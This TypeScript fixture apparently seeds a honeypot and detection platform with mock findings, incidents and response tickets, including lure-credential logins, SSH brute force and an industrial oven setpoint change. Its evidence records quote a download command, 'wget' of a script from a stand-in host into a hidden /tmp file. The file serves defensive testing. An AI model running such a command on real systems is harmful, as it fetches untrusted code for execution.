/** Fixed findings, incidents and tickets over the records. */
import type { RouteAnswer } from '@shenlou/contract/api'
import type { FindingSummary, IncidentSummary, TicketSummary } from '@shenlou/contract/records'
import { day, events, hour, minute, now, scope, sensors, uuid } from './records.ts'

type Finding = Pick<FindingSummary, 'rule' | 'severity' | 'title' | 'techniques'> & Partial<FindingSummary>
const finding = (n: number, ago: number, over: Finding): FindingSummary => ({
  id: uuid(7, n),
  ruleVersion: 2,
  confidence: 'high',
  scope,
  source: '203.0.113.39',
  decoy: 'jump-01',
  session: uuid(3, 1),
  sensor: sensors.decoys,
  origin: 'decoy',
  product: null,
  knownScanner: null,
  firstAt: now - ago,
  lastAt: now - ago + minute,
  count: 1,
  incident: uuid(4, 1),
  reason: { zh: '同一来源对同一账户多次尝试后成功。', en: 'One source tried one account many times, then got in.' },
  evidence: [
    {
      event: events[402]?.id ?? uuid(5, 1),
      session: uuid(3, 1),
      time: now - ago,
      field: 'body.input',
      value: 'wget http://198.51.100.7/x.sh -O /tmp/.x',
      why: 'downloads and marks executable',
    },
  ],
  ...over,
})
const technique = (id: string, name: string): FindingSummary['techniques'] => [{ id, name, matrix: 'enterprise' }]
/** The write of the oven's attack that its finding shows. */
const written = events.find((row) => row.kind === 'industrial.requested' && row.body.operation === 'write')
export const findings: FindingSummary[] = [
  finding(1, 8.8 * minute, {
    rule: 'valid-account',
    severity: 'critical',
    title: { zh: '诱饵凭据被使用', en: 'A lure credential was used' },
    techniques: technique('T1078', 'Valid Accounts'),
  }),
  finding(2, 3 * minute, {
    rule: 'download-execute',
    severity: 'high',
    title: { zh: '下载并准备执行', en: 'Download prepared for execution' },
    techniques: technique('T1105', 'Ingress Tool Transfer'),
  }),
  finding(3, 8 * minute, {
    rule: 'discovery',
    severity: 'low',
    title: { zh: '系统信息发现', en: 'System information discovery' },
    techniques: technique('T1082', 'System Information Discovery'),
  }),
  finding(4, 52 * minute, {
    rule: 'brute-force',
    severity: 'medium',
    count: 212,
    decoy: 'nas-02',
    session: uuid(3, 3),
    title: { zh: 'SSH 口令爆破', en: 'SSH password brute force' },
    techniques: technique('T1110.001', 'Password Guessing'),
  }),
  finding(5, 2 * hour, {
    rule: 'alert',
    severity: 'medium',
    origin: 'alert',
    product: 'Suricata',
    session: null,
    decoy: null,
    title: { zh: 'ET SCAN Potential SSH Scan', en: 'ET SCAN Potential SSH Scan' },
    techniques: technique('T1595', 'Active Scanning'),
  }),
  finding(6, now - (written?.time ?? now), {
    rule: 'industrial.parameter',
    severity: 'high',
    source: '198.51.100.77',
    decoy: 'topcoat-oven',
    session: uuid(3, 6),
    incident: null,
    title: { zh: '修改工艺参数', en: 'Process parameter changed' },
    reason: {
      zh: 'OV2 一区设定 160 → 260 °C,由并非操作屏的客户端发出。设定值或配方被改写,过程将随之改变。',
      en: 'OV2 Zone 1 setpoint 160 → 260 °C, by a client that is not the HMI. A setpoint or recipe value was written; the process follows it.',
    },
    techniques: [
      { id: 'T0836', name: 'Modify Parameter', zh: '修改参数', matrix: 'ics' },
      { id: 'T0855', name: 'Unauthorized Command Message', zh: '未授权命令报文', matrix: 'ics' },
    ],
    evidence: [
      {
        event: written?.id ?? '',
        session: uuid(3, 6),
        time: written?.time ?? now,
        field: 'industrial.said',
        value: 'OV2 Zone 1 setpoint 160 → 260 °C, by a client that is not the HMI',
        why: '',
      },
    ],
  }),
]

type Incident = Pick<IncidentSummary, 'title' | 'severity' | 'sources'> & Partial<IncidentSummary>
const incident = (n: number, ago: number, over: Incident): IncidentSummary => ({
  id: uuid(4, n),
  number: 40 + n,
  scope,
  decoys: ['jump-01', 'nas-02'],
  techniques: ['T1110.001', 'T1078', 'T1105'],
  findings: 5,
  events: 520,
  sessions: 2,
  products: [],
  firstAt: now - ago,
  lastAt: now - ago / 20,
  ticket: null,
  mergedInto: null,
  knownScanner: null,
  ...over,
})
export const incidents: IncidentSummary[] = [
  incident(1, 2 * hour, {
    severity: 'critical',
    sources: ['203.0.113.39'],
    title: { zh: '诱饵凭据登录 jump-01 并下载工具', en: 'Lure credential used on jump-01, tool download' },
    products: ['Suricata'],
    ticket: uuid(8, 1),
  }),
  incident(2, 4 * minute, {
    severity: 'high',
    sources: ['198.51.100.23'],
    title: { zh: '门户网站遭 SQL 注入扫描', en: 'SQL injection scan of the portal' },
    decoys: ['portal-hq'],
    techniques: ['T1190', 'T1595.002'],
    findings: 2,
    ticket: uuid(8, 2),
  }),
  incident(3, day, {
    severity: 'medium',
    sources: ['203.0.113.60', '203.0.113.61'],
    title: { zh: 'SSH 口令爆破', en: 'SSH brute force' },
    techniques: ['T1110.001'],
    findings: 1,
    ticket: uuid(8, 3),
  }),
  incident(4, 7 * hour, {
    severity: 'info',
    sources: ['10.31.4.17'],
    title: { zh: '漏洞扫描器触碰', en: 'Touched by the vulnerability scanner' },
    techniques: ['T1046'],
    findings: 1,
    knownScanner: 'IT operations',
  }),
]

type Ticket = Pick<TicketSummary, 'title' | 'severity' | 'state' | 'actions'> & Partial<TicketSummary>
const ticket = (n: number, ago: number, over: Ticket): TicketSummary => ({
  id: uuid(8, n),
  number: 100 + n,
  loop: 'incident',
  scope,
  assignee: null,
  createdAt: now - ago,
  updatedAt: now - ago / 3,
  closedAt: null,
  dueAt: now - ago + 8 * hour,
  answeredAt: null,
  overdue: ago > 8 * hour,
  incident: uuid(4, n),
  version: 3,
  ...over,
})
const comment: TicketSummary['actions'] = [
  { action: 'comment', needs: ['comment'] },
  { action: 'link', needs: ['evidence'] },
  { action: 'unlink', needs: ['link'] },
]
export const tickets: TicketSummary[] = [
  ticket(1, 2 * hour, {
    severity: 'critical',
    state: 'in_progress',
    title: { zh: '诱饵凭据登录 jump-01 并下载工具', en: 'Lure credential used on jump-01, tool download' },
    assignee: { id: uuid(9, 1), name: 'Lin Wei' },
    answeredAt: now - hour,
    actions: [
      { action: 'contain', needs: ['comment'] },
      { action: 'hold', needs: ['reason', 'until'] },
      { action: 'assign', needs: ['assignee'] },
      { action: 'close_fixed', needs: ['evidence'] },
      { action: 'close_false_positive', needs: ['reason'] },
      { action: 'close_duplicate', needs: ['ticket'] },
      ...comment,
    ],
  }),
  ticket(2, 4 * minute, {
    severity: 'high',
    state: 'new',
    title: { zh: '门户网站遭 SQL 注入扫描', en: 'SQL injection scan of the portal' },
    actions: [{ action: 'triage', needs: [] }, { action: 'assign', needs: ['assignee'] }, ...comment],
  }),
  ticket(3, day, {
    severity: 'medium',
    state: 'assigned',
    title: { zh: 'SSH 口令爆破', en: 'SSH brute force' },
    assignee: { id: uuid(9, 2), name: '陈晓' },
    actions: [{ action: 'start', needs: [] }, ...comment],
  }),
  ticket(4, 3 * day, {
    severity: 'low',
    state: 'closed_fixed',
    title: { zh: '历史扫描', en: 'Earlier scan' },
    closedAt: now - 2 * day,
    overdue: false,
    incident: null,
    actions: [{ action: 'reopen', needs: ['reason'] }],
  }),
]
export const ticketDetail: Omit<RouteAnswer<'ticket'>, 'ticket'> = {
  activity: [
    { id: uuid(10, 1), at: now - 2 * hour, actor: 'system', action: 'open', from: null, to: 'new', comment: null, detail: { incident: 'I-41' } },
    { id: uuid(10, 2), at: now - hour, actor: 'Lin Wei', action: 'assign', from: 'new', to: 'assigned', comment: null, detail: { assignee: 'Lin Wei' } },
    {
      id: uuid(10, 3),
      at: now - 50 * minute,
      actor: 'Lin Wei',
      action: 'start',
      from: 'assigned',
      to: 'in_progress',
      comment: '口令来自 3 号园区的诱饵文件,正在查泄露位置。',
      detail: {},
    },
  ],
  evidence: [
    {
      id: uuid(11, 1),
      kind: 'session',
      target: uuid(3, 1),
      label: 'ssh 203.0.113.39 → jump-01',
      by: 'Lin Wei',
      at: now - 45 * minute,
      why: '使用诱饵口令登录',
    },
    {
      id: uuid(11, 2),
      kind: 'event',
      target: events[410]?.id ?? uuid(5, 1),
      label: 'wget http://198.51.100.7/x.sh',
      by: 'Lin Wei',
      at: now - 2 * minute,
      why: 'tool download',
    },
  ],
  clock: [
    { from: now - 2 * hour, to: now - 80 * minute, running: true, why: 'opened' },
    { from: now - 80 * minute, to: now - 60 * minute, running: false, why: 'outside business hours' },
    { from: now - 60 * minute, to: null, running: true, why: 'business hours' },
  ],
}
